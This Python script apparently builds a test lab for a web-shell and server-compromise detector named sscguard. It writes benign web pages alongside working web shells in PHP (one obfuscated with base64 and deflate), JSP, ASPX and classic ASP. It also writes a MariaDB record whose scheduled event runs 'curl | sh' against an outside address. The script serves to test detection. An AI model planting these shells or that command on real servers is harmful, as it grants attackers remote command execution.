"""Build the demonstration lab: a compromised server's files, collected under one folder.

    python examples/build_demo.py OUT_DIR

Writes OUT_DIR/lab/ (a root for `sscguard hunt --root`) and OUT_DIR/planted.json (what a hunt
must find). The lab holds a Debian web server (Apache with a rogue module, nginx, PHP-FPM with
a prepend file, Tomcat with a rogue valve and a WAR, Jenkins init scripts, .htaccess tricks,
dpkg records), web roots with real-looking benign pages and planted web shells, the Windows
artifacts of an IIS/Exchange peer (applicationHost.config with a rogue module, agents.config,
a SYSTEM hive with a swapped ServiceDll), ESXi command outputs, and a MariaDB catalog export.
Every file is written for this project; the shells are minimal ones, each showing one
technique. Nothing is copied from a public web-shell collection.
"""

from __future__ import annotations

import base64
import json
import os
import sys
import zlib
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from lab_components import EXPECTED, esxi_host, linux_host, windows_host

BENIGN: dict[str, str] = {
    "var/www/html/index.php": """<?php
declare(strict_types=1);
require __DIR__ . '/lib/bootstrap.php';

$page = $_GET['page'] ?? 'home';
if (!in_array($page, ['home', 'about', 'contact'], true)) {
    http_response_code(404);
    $page = 'notfound';
}
echo render_template($page, ['title' => ucfirst($page), 'user' => current_user()]);
""",
    "var/www/html/lib/bootstrap.php": """<?php
session_start();
function current_user(): ?string {
    return $_SESSION['user'] ?? null;
}
function render_template(string $name, array $vars): string {
    extract($vars, EXTR_SKIP);
    ob_start();
    include __DIR__ . '/../templates/' . basename($name) . '.phtml';
    return (string) ob_get_clean();
}
""",
    "var/www/html/lib/cache.php": """<?php
// Compiled-template cache: evaluates PHP that this application generated itself.
final class TemplateCache {
    public function __construct(private string $dir) {}
    public function load(string $key): mixed {
        $file = $this->dir . '/' . hash('sha256', $key) . '.php';
        if (!is_file($file)) {
            return null;
        }
        return eval('?>' . file_get_contents($file));
    }
}
""",
    "var/www/html/admin/backup.php": """<?php
require __DIR__ . '/../lib/bootstrap.php';
if (current_user() !== 'admin') { http_response_code(403); exit; }
// Fixed command, no request input: a nightly database dump started from the admin page.
$out = [];
exec('/usr/local/bin/db-backup --quiet', $out, $status);
echo $status === 0 ? 'Backup started' : 'Backup failed';
""",
    "var/www/html/contact.php": """<?php
$name = htmlspecialchars($_POST['name'] ?? '', ENT_QUOTES);
$msg = htmlspecialchars($_POST['message'] ?? '', ENT_QUOTES);
if ($name !== '' && $msg !== '') {
    mail('webmaster@example.org', 'Contact form', "$name wrote:\\n$msg");
    echo "<p>Thank you, $name.</p>";
}
""",
    "var/www/html/upload.php": """<?php
require __DIR__ . '/lib/bootstrap.php';
$allowed = ['image/png' => 'png', 'image/jpeg' => 'jpg'];
$type = mime_content_type($_FILES['photo']['tmp_name'] ?? '') ?: '';
if (isset($allowed[$type])) {
    $name = bin2hex(random_bytes(16)) . '.' . $allowed[$type];
    move_uploaded_file($_FILES['photo']['tmp_name'], __DIR__ . '/uploads/' . $name);
}
""",
    "var/www/html/templates/home.phtml": "<h1><?= htmlspecialchars($title) ?></h1>\n",
    "var/www/html/assets/app.js": "document.querySelectorAll('form').forEach(f => f.reset());\n",
    "var/lib/tomcat10/webapps/ROOT/index.jsp": """<%@ page contentType="text/html; charset=UTF-8" %>
<%
    String name = request.getParameter("name");
    if (name == null) { name = "guest"; }
%>
<html><body><h1>Hello, <%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(name) %></h1>
</body></html>
""",
    "inetpub/wwwroot/default.aspx": """<%@ Page Language="C#" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e) {
        var q = Server.HtmlEncode(Request.QueryString["q"] ?? "");
        Result.Text = "You searched for " + q;
    }
</script>
<html><body><asp:Label id="Result" runat="server" /></body></html>
""",
    "inetpub/wwwroot/legacy/news.asp": """<%
Dim id : id = CInt(Request.QueryString("id"))
Response.Write "<h2>News item " & Server.HTMLEncode(id) & "</h2>"
%>
""",
}


def _encoded_php() -> str:
    inner = b"system($_REQUEST['c']);"
    blob = base64.b64encode(zlib.compress(inner)[2:-4]).decode()
    return f"<?php\n$p = '{blob}';\neval(gzinflate(base64_decode($p)));\n"


PLANTED: dict[str, str] = {
    # one-line PHP eval of request input, dropped next to the real app
    "var/www/html/uploads/thumb.php": "<?php @eval($_POST['t']); ?>\n",
    # layered encoding: base64 + raw deflate, evaluated
    "var/www/html/lib/cache-stats.php": _encoded_php(),
    # image polyglot: a GIF header followed by PHP
    "var/www/html/uploads/avatar.gif.php": "GIF89a\n<?php system($_GET['cmd']); ?>\n",
    # JSP command shell
    "var/lib/tomcat10/webapps/ROOT/status.jsp": """<%@ page import="java.io.*" %>
<%
    String c = request.getParameter("c");
    if (c != null) {
        Process p = Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", c});
        BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
        String l; while ((l = r.readLine()) != null) { out.println(l); }
    }
%>
""",
    # ASPX process start from a request field
    "inetpub/wwwroot/aspnet_client/health.aspx": """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    void Page_Load(object s, EventArgs e) {
        var psi = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["q"]);
        psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
        Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
    }
</script>
""",
    # classic ASP eval of a request value
    "inetpub/wwwroot/legacy/error.asp": '<% Execute(Request("e")) %>\n',
}


def _sql_catalog() -> str:
    """Rows a compromised MariaDB returned for sscguard's query pack (sscguard sql queries
    --engine mysql): a UDF library registered by a plain INSERT into mysql.func, an event
    that calls it every hour, and secure_file_priv left empty."""
    rows = [
        {"query": "my_server", "version": "10.11.11-MariaDB-0+deb12u1", "version_comment":
         "Debian 12", "hostname": "web1", "port": 3306, "login": "audit@localhost",
         "secure_file_priv": "", "plugin_dir": "/usr/lib/mysql/plugin/", "local_infile": "OFF",
         "datadir": "/var/lib/mysql/"},
        {"query": "my_func", "name": "sys_exec", "ret": 2, "dl": "lib_mysqludf_sys.so",
         "type": "function"},
        {"query": "my_events", "db": "shop", "name": "cache_refresh", "definer": "root@localhost",
         "status": "ENABLED",
         "definition": "DO SELECT sys_exec('curl -s http://203.0.113.9/k | sh')"},
        {"query": "my_plugins", "name": "InnoDB", "status": "ACTIVE", "type": "STORAGE ENGINE",
         "library": None, "author": "Oracle Corporation", "description": "Supports transactions",
         "load_option": "FORCE"},
    ]  # fmt: skip
    names = ("my_server", "my_func", "my_plugins", "my_plugin_table", "my_events", "my_triggers",
             "my_routines")  # fmt: skip
    rows.extend({"query": f"_done:{name}"} for name in names)
    return "".join(json.dumps(row) + "\n" for row in rows)


SQL_CATALOG = "collected/sql/mariadb-web1.jsonl"
APP_DEPLOYED = 1_788_256_800  # 2026-09-01T10:00:00Z
INTRUSION = 1_795_435_200  # 2026-11-18T10:00:00Z


def build(out: Path) -> dict[str, object]:
    """Write the lab under ``out/lab`` and return (and save) what a hunt must find."""
    lab = out / "lab"
    linux_host(lab, clean=False)
    windows_host(lab, clean=False)
    esxi_host(lab, clean=False)
    for index, (rel, text) in enumerate({**BENIGN, **PLANTED}.items()):
        path = lab / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        # A realistic history: the application was deployed in September, the shells arrived
        # one by one over three days in November (the report's timeline shows them).
        when = APP_DEPLOYED + index * 60 if rel in BENIGN else INTRUSION + index * 9_000
        os.utime(path, (when, when))
    plugins = lab / "usr/lib/mysql/plugin"  # the UDF library the catalog's mysql.func row names
    plugins.mkdir(parents=True, exist_ok=True)
    (lab / "var/lib/mysql").mkdir(parents=True, exist_ok=True)  # the server's datadir
    (plugins / "lib_mysqludf_sys.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57)
    catalog = lab / SQL_CATALOG
    catalog.parent.mkdir(parents=True, exist_ok=True)
    catalog.write_text(_sql_catalog(), encoding="utf-8")
    expected_rules = sorted({r for rules in EXPECTED.values() for r in rules} | SQL_EXPECTED)
    manifest: dict[str, object] = {
        "root": str(lab),
        "sql_catalog": str(catalog),
        "planted_shells": sorted(str(lab / rel) for rel in PLANTED),
        "benign_files": sorted(str(lab / rel) for rel in BENIGN),
        "expected_rules": expected_rules,
    }
    (out / "planted.json").write_text(json.dumps(manifest, indent=2) + "\n", encoding="utf-8")
    return manifest


# What the SQL catalog must raise: the mysql.func row, the event calling it, secure_file_priv.
SQL_EXPECTED = {"SSC-001-020", "SSC-001-022", "SSC-001-024"}


def main() -> int:
    if len(sys.argv) != 2:
        print(__doc__.strip().splitlines()[2].strip(), file=sys.stderr)
        return 2
    out = Path(sys.argv[1]).resolve()
    manifest = build(out)
    shells = manifest["planted_shells"]
    rules = manifest["expected_rules"]
    assert isinstance(shells, list) and isinstance(rules, list)
    print(
        f"demo lab in {manifest['root']}: a Linux web server (Apache, nginx, PHP-FPM, Tomcat, "
        "Jenkins), IIS/Exchange/TermService artifacts, ESXi outputs and a MariaDB catalog; "
        f"{len(shells)} planted web shells, {len(rules)} expected checks"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
